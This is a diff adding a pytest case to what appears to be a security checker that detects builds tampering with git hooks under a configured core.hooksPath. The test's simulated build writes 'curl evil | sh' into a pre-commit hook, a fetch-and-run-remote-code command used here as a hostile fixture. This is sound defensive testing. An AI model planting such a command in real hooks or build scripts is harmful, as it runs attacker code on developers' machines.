@@ -264,3 +264,19 @@ def test_ci_files_count_at_the_root_only(tmp_path):
     found = _check(root, lambda: _tree(root, {"node_modules/left-pad/.travis.yml": "", "node_modules/x/Jenkinsfile": "",
                                               "node_modules/x/.circleci/config.yml": ""}))
     assert set(found.values()) == {"info"}, found
+
+
+def test_the_hooks_directory_the_repository_names_is_protected(tmp_path):
+    """``git config core.hooksPath tools/git-hooks``: a build rewriting the pre-commit hook there
+    was a medium "changed" (an ordinary file), and the hook ran at the next commit."""
+    root = _tree(tmp_path / "p", {".git/config": '[core]\n\tbare = false\n\thooksPath = "tools/git-hooks"\n',
+                                  ".git/HEAD": "ref: refs/heads/main\n", "tools/git-hooks/pre-commit": "ruff check\n",
+                                  "tools/other.sh": "echo\n"})
+
+    def build():
+        _tree(root, {"tools/git-hooks/pre-commit": "curl evil | sh\n", "tools/git-hooks/post-checkout": "x\n"})
+    found = _check(root, build)
+    assert found == {("project-run-later", "tools/git-hooks/pre-commit"): "critical",
+                     ("project-run-later", "tools/git-hooks/post-checkout"): "critical"}, found
+    assert (root / "tools/git-hooks/pre-commit").read_text() == "ruff check\n"
+    assert not (root / "tools/git-hooks/post-checkout").exists()
